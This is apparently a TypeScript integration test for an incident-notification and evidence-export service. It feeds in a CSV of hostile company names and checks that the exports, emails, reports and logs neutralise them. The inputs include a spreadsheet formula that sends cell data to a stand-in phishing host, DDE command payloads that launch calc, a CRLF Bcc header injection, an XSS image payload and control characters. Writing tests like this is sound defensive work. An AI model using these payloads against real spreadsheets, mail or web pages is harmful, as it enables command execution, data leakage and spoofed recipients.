import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { simpleParser } from 'mailparser';
import type { ExportView, QuarantineLine } from '../../lambdas/api/contract';
import { unguard } from '../../lambdas/domain/evidence/csv';
import { verifyPack } from '../../lambdas/export/verify/verify-pack';
import { bootEmbeddedAws, type TestAws } from '../support/embedded-aws';
import { Incident } from '../support/incident';
import { temporaryFolder } from '../support/outputs';
import { pdfText } from '../support/pdf-text';
import { unzip } from '../support/zip';

/** Everything that a spreadsheet, a mail program or a terminal could take for more than a name. */
const COMPANIES: [company: string, address: string][] = [
  ['=HYPERLINK("https://phish.example/?x="&A1,"Click me")', 'formula@alpha.example'],
  ["\u00a0=2+5+cmd|' /C calc'!A0", 'blank@alpha.example'],
  ["Two lines\n@SUM(1+1)*cmd|' /C calc'!A0", 'lines@beta.example'],
  ['Windows lines\r\nBcc: everybody@gamma.example', 'header@beta.example'],
  ['Zero\u0000byte Ltd', 'zero@beta.example'],
  ['Safe \u202exslx.eciovni Ltd', 'backwards@beta.example'],
  ['<img src=x onerror=alert(1)>', 'markup@beta.example'],
  ['\uff1dFULL("width")', 'wide@delta.example'],
  ['Кириллица Холдинг', 'admin@пример.example'],
];
const MANY = Array.from({ length: 40 }, (_, n) => `Group number ${n}`);
/** SES's mailbox simulator: each of them has its own end. */
const FATES: [address: string, outcome: string][] = [
  ['bounce@simulator.amazonses.com', 'bounced'],
  ['suppressionlist@simulator.amazonses.com', 'bounced'],
  ['complaint@simulator.amazonses.com', 'complained'],
  ['ooto@simulator.amazonses.com', 'delivered'],
];
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
const FILE = [
  'company,group,email',
  ...COMPANIES.map(([company, address], n) => [quoted(company), `Hostile ${n}`, address].join(',')),
  ...MANY.map((group) => `Large Holding,${group},many@large-holding.example`),
  ...FATES.map(([address]) => `Fate and Sons,Simulator,${address}`),
].join('\r\n');

let aws: TestAws;
let pack: Map<string, Buffer>;
let open: Map<string, Buffer>;
let exported: ExportView;
let mails: { raw: string; subject: string; to: string; text: string; html: string }[];

beforeAll(async () => {
  aws = await bootEmbeddedAws({ scheduleSeconds: 1, ses: { deliveryMilliseconds: 5 } });
  const incident = new Incident(aws, 'hostile-2026');
  await incident.describe({
    contracts: [{ name: 'Agreement with customers', hours: 1 }],
  });
  await incident.drop('hostile.csv', FILE);
  const accepted = await acceptAll(incident);
  expect(accepted).toBeGreaterThan(0);
  await incident.send(1 + accepted);
  exported = await incident.export();
  [pack, open] = await Promise.all([fetched(exported.evidenceUrl!), fetched(exported.regulatorUrl!)]);
  mails = await Promise.all(readdirSync(aws.mail).map((name) => mailOf(join(aws.mail, name))));
}, 240_000);
afterAll(() => aws.close());

/** A person takes over what no rule explains, as hostile as it is. */
async function acceptAll(incident: Incident): Promise<number> {
  const { drops } = await incident.until('the file read', (view) => view.drops[0]?.state === 'read');
  const route = `/incidents/${incident.id}/quarantine` as const;
  const { lines } = await incident.call<{ lines: QuarantineLine[] }>('responder', `GET ${route}`);
  for (const { line, text } of lines) {
    const [company, address] = COMPANIES.find(([, one]) => text.includes(one)) ?? [];
    const decision = {
      drop: drops[0]?.drop,
      line,
      accept: true,
      address,
      company,
      group: 'Hostile',
      why: 'read it',
    };
    await incident.call('responder', `POST ${route}`, decision);
  }
  return lines.length;
}

async function fetched(url: string): Promise<Map<string, Buffer>> {
  const path = join(await temporaryFolder(), 'pack.zip');
  writeFileSync(path, new Uint8Array(await (await fetch(url)).arrayBuffer()));
  expect(await verifyPack(path)).toMatchObject({ genuine: true });
  return new Map(await unzip(path));
}

async function mailOf(path: string) {
  const raw = readFileSync(path, 'utf8');
  const { subject = '', text = '', html, to } = await simpleParser(raw);
  return { raw, subject, text, html: html || '', to: [to].flat()[0]?.text ?? '' };
}

const csv = (name: string): Record<string, string>[] =>
  parse(pack.get(`evidence/data/${name}`)!, { bom: true, columns: true });
const json = (name: string) => JSON.parse(pack.get(`evidence/data/${name}`)!.toString());

test('nothing of it is lost, and the pack balances', () => {
  expect(exported.checks?.filter(({ ok }) => !ok)).toEqual([]);
  expect(exported.totals).toMatchObject({
    total: COMPANIES.length + 1 + FATES.length,
    pending: 0,
    unknown: 0,
  });
});

test('no line of a cell can be a formula, and each name comes back as intake read it', () => {
  for (const name of [
    'recipients.csv',
    'exposures.csv',
    'companies.csv',
    'second-route.csv',
    'quarantine.csv',
  ]) {
    const lines = csv(name)
      .flatMap((row) => Object.values(row))
      .flatMap((cell) => cell.split(/\r\n|\r|\n/));
    expect(lines.filter((line) => /^[\s\p{Cf}]*[=+\-@\t\0＝＋－＠]/u.test(line))).toEqual([]);
  }
  const found = new Map(csv('exposures.csv').map((row) => [row.address, unguard(row.company ?? '')]));
  expect(found.get('formula@alpha.example')).toBe(COMPANIES[0]![0]);
  expect(found.get('wide@delta.example')).toBe('\uff1dFULL("width")');
});

test('mails and page show them as text: no markup, no second header, no turned letters', () => {
  for (const { raw, subject, html, text } of mails) {
    const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
    expect(head).not.toMatch(/^bcc:/im);
    expect(head).not.toMatch(/HYPERLINK|calc|Two lines|Holding/);
    expect(subject).toBe(mails[0]!.subject);
    expect(html).not.toContain('<img');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(text + html).not.toMatch(/[\u0000\u202e]/);
  }
  const page = pack.get('evidence/data/report.html')!.toString();
  expect(page).not.toContain('<img src=x');
  expect(page).not.toContain('\u0000');
  expect(page).not.toMatch(/<script|href=|src='?"?http/);
});

test('one address in 40 groups: one mail that names them all, one line in recipients.csv, 40 linked rows', () => {
  const own = mails.filter(({ to }) => to === 'many@large-holding.example');
  expect(own).toHaveLength(1);
  expect(MANY.filter((group) => !own[0]!.text.includes(group))).toEqual([]);
  const [row, ...more] = csv('recipients.csv').filter(
    ({ address }) => address === 'many@large-holding.example',
  );
  expect(more).toEqual([]);
  const linked = csv('exposures.csv').filter(({ recipient }) => recipient === row!.recipient);
  expect(linked.map(({ line }) => Number(line)).sort((a, b) => a - b)).toHaveLength(40);
});

test('whom mail did not reach was not told, and is on the second route', () => {
  const outcomes = new Map(csv('recipients.csv').map(({ address, outcome }) => [address, outcome]));
  expect(FATES.map(([address]) => [address, outcomes.get(address)])).toEqual(FATES);
  const second = csv('second-route.csv').map(({ address }) => address);
  expect(second.sort()).toEqual([
    'bounce@simulator.amazonses.com',
    'suppressionlist@simulator.amazonses.com',
  ]);
});

test('a deadline that has passed asks for the reason, in the data and on the page of both packs', () => {
  const late = (json('clocks.json') as { rule: string; late: boolean; lateReasonMissing: boolean }[]).find(
    ({ rule }) => rule === 'contract-1',
  );
  expect(late).toMatchObject({ late: true, lateReasonMissing: true });
  for (const page of [pack.get('evidence/data/report.html'), open.get('regulator/data/report.html')]) {
    expect(page!.toString()).toContain('late, no reason on record');
  }
});

test('the regulator pack has none of it: no address, no id, no company or group of six letters or more', async () => {
  const text = await Promise.all(
    [...open].map(async ([name, content]) => (name.endsWith('.pdf') ? pdfText(content) : content.toString())),
  );
  const everything = text.join('\n').toLowerCase();
  const names = [...COMPANIES.flat(), ...FATES.map(([address]) => address)];
  const rids = csv('recipients.csv').map(({ recipient }) => recipient ?? '');
  const toxic = [
    ...names,
    ...MANY,
    ...rids,
    'Large Holding',
    'Fate and Sons',
    'hostile.csv',
    'large-holding.example',
  ];
  expect(toxic.filter((one) => one.length >= 6 && everything.includes(one.toLowerCase()))).toEqual([]);
});

test('no log of a function, and so no metric, has any of it', () => {
  const folder = join(aws.data, 'logs');
  const logs = readdirSync(folder)
    .map((name) => readFileSync(join(folder, name), 'utf8'))
    .join('\n');
  expect(logs.length).toBeGreaterThan(100);
  const toxic = [
    ...COMPANIES.map(([, address]) => address),
    ...MANY,
    'HYPERLINK',
    'Large Holding',
    'hostile.csv',
  ];
  expect(toxic.filter((one) => logs.includes(one))).toEqual([]);
});
